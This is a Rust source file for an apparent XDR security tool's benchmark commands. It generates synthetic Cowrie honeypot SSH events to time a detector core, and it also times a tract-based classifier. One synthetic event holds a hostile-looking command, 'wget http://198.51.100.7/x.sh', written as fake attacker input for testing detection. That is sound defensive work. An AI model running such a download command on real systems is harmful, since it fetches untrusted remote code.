//! `mini-xdr bench detect` (the detector core alone) and `mini-xdr bench inference` (the
//! classifier with tract).

use serde_json::json;
use std::process::ExitCode;
use std::time::Instant;
use uuid::Uuid;

use crate::{percentiles, BenchDetectArgs, BenchInferenceArgs};

/// One synthetic security event of source `s` at event time `t_micros`. Sources behave by
/// `s % 10`: brute forcers (0–3), scanners (4–5), logged-in users running commands (6–8),
/// and a mix (9), so every rule path and the incident bookkeeping are exercised.
fn synthetic_event(i: usize, s: usize, t_micros: i64) -> serde_json::Value {
    let ts = chrono::DateTime::from_timestamp_micros(t_micros).unwrap_or_default().to_rfc3339();
    let ip = format!("10.{}.{}.{}", (s >> 16) & 255, (s >> 8) & 255, s & 255);
    let (event_type, command) = match (s % 10, i % 7) {
        (0..=3, _) => ("cowrie.login.failed", None),
        (4..=5, _) => ("cowrie.session.connect", None),
        (_, 0) => ("cowrie.login.success", None),
        (_, 1) => ("cowrie.command.input", Some("uname -a")),
        (_, 2) => ("cowrie.command.input", Some("wget http://198.51.100.7/x.sh")),
        (_, 3) => ("cowrie.login.failed", None),
        (_, 4) => ("cowrie.command.input", Some("ls -la /tmp")),
        _ => ("cowrie.client.version", None),
    };
    let username = ["root", "admin", "ubuntu", "pi"][i % 4];
    json!({
        "timestamp": ts, "source_type": "cowrie", "event_type": event_type, "src_ip": ip,
        "src_port": 40000 + (i % 20000), "dst_ip": "172.16.0.10", "dst_port": 2222, "protocol": "ssh",
        "username": username, "password": format!("pass{}", i % 97),
        "command": command, "session_id": format!("{:012x}", i / 5), "hostname": "cowrie-sensor-01",
        "raw": {},
    })
}

/// `mini-xdr bench detect`: the detector core alone (JSON decode → windows → features →
/// rules → commands) on one thread; events are generated outside the timed section.
pub fn detect(args: BenchDetectArgs) -> anyhow::Result<ExitCode> {
    use xdr_commands::StoredEvent;
    use xdr_inference::Detector;
    let org = Uuid::new_v4();
    let sources = args.sources.max(1);
    // One hour of event time in total, interleaved across sources.
    let step = 3_600_000_000 / args.events.max(1) as i64;
    let base = 1_795_000_000_000_000i64;
    let mut detector = Detector::default();
    let (mut busy, mut decode, mut commands) = (std::time::Duration::ZERO, std::time::Duration::ZERO, 0usize);
    let mut latencies = Vec::with_capacity(args.events);
    const CHUNK: usize = 20_000;
    let mut i = 0;
    while i < args.events {
        let end = (i + CHUNK).min(args.events);
        let batch: Vec<StoredEvent> = (i..end)
            .map(|k| StoredEvent {
                org_id: org,
                org_seq: k as i64 + 1,
                stream_id: "telemetry-cowrie".into(),
                stream_version: k as i64 + 1,
                event_id: Uuid::from_u128(k as u128 + 1),
                event_type: "SecurityEventObserved".into(),
                schema_version: 1,
                payload: synthetic_event(k, (k.wrapping_mul(2_654_435_761)) % sources, base + k as i64 * step),
                metadata: json!({}),
                recorded_at: chrono::DateTime::from_timestamp_micros(base).unwrap_or_default(),
                hash: Vec::new(),
            })
            .collect();
        let started = Instant::now();
        for e in &batch {
            let t = Instant::now();
            commands += detector.process(e).len();
            latencies.push(t.elapsed());
        }
        busy += started.elapsed();
        // The payload decode alone, to show where the time goes.
        let started = Instant::now();
        for e in &batch {
            let decoded: Result<xdr_domain::telemetry::SecurityEvent, _> = serde::Deserialize::deserialize(&e.payload);
            std::hint::black_box(decoded.is_ok());
        }
        decode += started.elapsed();
        i = end;
    }
    let stats = detector.stats();
    let (p50, p99) = percentiles(latencies);
    println!("events: {}  sources: {}  commands: {commands}  rule hits: {}", args.events, sources, stats.hits);
    println!(
        "detector core: {:>10.0} events/s on one core (target >= 50 000)",
        args.events as f64 / busy.as_secs_f64()
    );
    println!("per event:     p50 {:.4} ms  p99 {:.4} ms", p50, p99);
    println!("of which JSON payload decode: {:.0}%", 100.0 * decode.as_secs_f64() / busy.as_secs_f64());
    Ok(ExitCode::SUCCESS)
}

/// Classifier latency with tract on the golden batch: one window, and 64 windows per call.
/// The onnxruntime side of the comparison is `inference/train/bench_ort.py` (same model,
/// same golden batch); docs/BENCHMARKS.md records both.
pub async fn inference(args: BenchInferenceArgs) -> anyhow::Result<ExitCode> {
    use xdr_inference::features::FeatureVector;
    use xdr_inference::model::{verify::measure, Classifier};
    tokio::task::spawn_blocking(move || -> anyhow::Result<ExitCode> {
        let classifier = Classifier::load(&args.dir)?;
        let golden = classifier.golden()?;
        let vectors: Vec<FeatureVector> = golden
            .inputs
            .iter()
            .map(|row| FeatureVector(std::array::from_fn(|i| row.get(i).copied().unwrap_or(0.0) as f32)))
            .collect();
        // The golden batch repeated to 64 rows, exactly as bench_ort.py builds it.
        let batch: Vec<FeatureVector> = vectors.iter().cycle().take(64).copied().collect();
        for (name, input, iterations) in
            [("single", &batch[..1], args.iterations), ("batch64", &batch[..], args.iterations)]
        {
            let l = measure(&classifier, input, iterations)?;
            println!(
                "tract {name:<8} p50 {:>8.2} µs  p99 {:>8.2} µs  per window p50 {:>7.3} µs  ({} runs)",
                l.p50.as_secs_f64() * 1e6,
                l.p99.as_secs_f64() * 1e6,
                l.p50.as_secs_f64() * 1e6 / input.len() as f64,
                l.iterations
            );
        }
        Ok(ExitCode::SUCCESS)
    })
    .await?
}
